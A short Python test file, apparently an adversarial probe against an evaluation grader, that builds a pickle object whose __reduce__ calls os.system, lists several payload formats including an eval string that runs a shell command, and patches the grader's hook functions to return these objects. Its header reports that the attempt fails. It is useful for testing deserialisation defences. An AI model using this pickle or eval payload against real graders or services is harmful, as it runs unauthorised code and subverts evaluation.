# tries: to have the grader unpickle an object that runs a command.
# gets: an error: there is no kind of value that would be unpickled.
# ends: error
import pickle

import __main__
import numpy as np


class Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/attack-was-here",)


KINDS = [
    {"kind": "pickle", "data": pickle.dumps(Bomb(), 0).decode("latin-1")},
    {"kind": "array", "dtype": "object", "shape": [1]},
    {"kind": "array", "dtype": "O", "shape": [1]},
    {"kind": "other", "type": "builtins.eval", "text": "__import__('os').system('touch /tmp/attack-was-here')"},
    {"kind": ["array"], "items": {"__class__": "Bomb"}},
]
turn = 0


def describe(value, out):
    global turn
    turn += 1
    out.append(pickle.dumps(Bomb()))
    return KINDS[turn % len(KINDS)]


__main__.describe_value = describe
fc_c = cost = lambda *args: np.array(
    [Bomb()], dtype=object
)
